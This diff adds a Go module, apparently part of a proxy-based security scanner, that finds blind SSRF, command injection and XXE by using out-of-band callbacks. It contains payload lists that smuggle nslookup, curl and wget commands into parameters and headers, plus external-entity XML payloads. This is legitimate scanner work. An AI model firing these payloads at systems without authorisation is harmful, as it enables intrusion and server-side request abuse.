@@ -0,0 +1,178 @@
+package scanner
+
+import (
+	"fmt"
+	"net/http"
+	"sort"
+	"strings"
+	"time"
+
+	"github.com/daronenko/https-proxy/internal/model"
+	"github.com/daronenko/https-proxy/pkg/oob"
+)
+
+// DefaultBlindWait is used when Wait is not set, callbacks through dns
+// resolvers often take a few seconds.
+const DefaultBlindWait = 5 * time.Second
+
+// Payload templates are expanded per probe, {url} and {host} are replaced
+// with the callback address of a freshly issued token.
+var (
+	DefaultBlindSSRFPayloads = []string{
+		"{url}",
+		"//{host}/",
+	}
+
+	DefaultBlindCmdInjectionPayloads = []string{
+		";nslookup {host};",
+		"|curl {url}|",
+		"`wget -q -O- {url}`",
+		"$(nslookup {host})",
+	}
+
+	DefaultBlindXXEPayloads = []string{
+		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "{url}"> %x;]><r/>`,
+		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{url}">]><r>&x;</r>`,
+	}
+)
+
+type Interactor interface {
+	NewToken() string
+	URL(token string) string
+	Host(token string) string
+	Poll(token string) []oob.Interaction
+}
+
+type Blind struct {
+	Interactor   Interactor
+	SSRF         []string
+	CmdInjection []string
+	XXE          []string
+	// Wait is how long callbacks are awaited after the last probe is sent,
+	// DefaultBlindWait when zero.
+	Wait time.Duration
+}
+
+type blindProbe struct {
+	class   string
+	point   string
+	payload string
+}
+
+func (s Blind) Name() string {
+	return "Blind Injection (out-of-band)"
+}
+
+func (s Blind) Scan(original model.Request, try func(*http.Request) bool) []string {
+	probes := make(map[string]blindProbe)
+
+	send := func(class, point, template string, mutate func(mod *model.Request, payload string)) {
+		token := s.Interactor.NewToken()
+		payload := strings.NewReplacer(
+			"{url}", s.Interactor.URL(token),
+			"{host}", s.Interactor.Host(token),
+		).Replace(template)
+
+		mod := original.Clone()
+		mutate(&mod, payload)
+
+		req, err := buildRequest(mod)
+		if err != nil {
+			return
+		}
+
+		probes[token] = blindProbe{class: class, point: point, payload: payload}
+		try(req)
+	}
+
+	for k := range original.QueryParams {
+		v := original.QueryParams.Get(k)
+		for _, template := range s.SSRF {
+			send("SSRF", "GET param: "+k, template, func(mod *model.Request, payload string) {
+				mod.QueryParams.Set(k, payload)
+			})
+		}
+		for _, template := range s.CmdInjection {
+			send("Command Injection", "GET param: "+k, template, func(mod *model.Request, payload string) {
+				mod.QueryParams.Set(k, v+payload)
+			})
+		}
+	}
+
+	for k, v := range original.FormParams {
+		for _, template := range s.SSRF {
+			send("SSRF", "POST param: "+k, template, func(mod *model.Request, payload string) {
+				mod.FormParams[k] = payload
+				mod.Body = []byte(model.BuildFormBody(mod.FormParams))
+			})
+		}
+		for _, template := range s.CmdInjection {
+			send("Command Injection", "POST param: "+k, template, func(mod *model.Request, payload string) {
+				mod.FormParams[k] = v + payload
+				mod.Body = []byte(model.BuildFormBody(mod.FormParams))
+			})
+		}
+	}
+
+	for k := range original.Headers {
+		v := original.Headers.Get(k)
+		for _, template := range s.CmdInjection {
+			send("Command Injection", "Header: "+k, template, func(mod *model.Request, payload string) {
+				mod.Headers.Set(k, v+payload)
+			})
+		}
+	}
+
+	for _, k := range []string{"Referer", "X-Forwarded-Host"} {
+		for _, template := range s.SSRF {
+			send("SSRF", "Header: "+k, template, func(mod *model.Request, payload string) {
+				mod.Headers.Set(k, payload)
+			})
+		}
+	}
+
+	if isXML(original) {
+		for _, template := range s.XXE {
+			send("XXE", "XML body", template, func(mod *model.Request, payload string) {
+				mod.Body = []byte(payload)
+			})
+		}
+	}
+
+	if len(probes) == 0 {
+		return nil
+	}
+
+	wait := s.Wait
+	if wait <= 0 {
+		wait = DefaultBlindWait
+	}
+	time.Sleep(wait)
+
+	var vulnerable []string
+	for token, probe := range probes {
+		interactions := s.Interactor.Poll(token)
+		if len(interactions) == 0 {
+			continue
+		}
+
+		first := interactions[0]
+		vulnerable = append(vulnerable, fmt.Sprintf(
+			"%s via %s (payload: %s, %s callback from %s)",
+			probe.class, probe.point, probe.payload, first.Protocol, first.RemoteAddr,
+		))
+	}
+	sort.Strings(vulnerable)
+
+	return vulnerable
+}
+
+func isXML(r model.Request) bool {
+	for k := range r.Headers {
+		if strings.EqualFold(k, "Content-Type") && strings.Contains(r.Headers.Get(k), "xml") {
+			return true
+		}
+	}
+
+	return strings.HasPrefix(strings.TrimSpace(string(r.Body)), "<?xml")
+}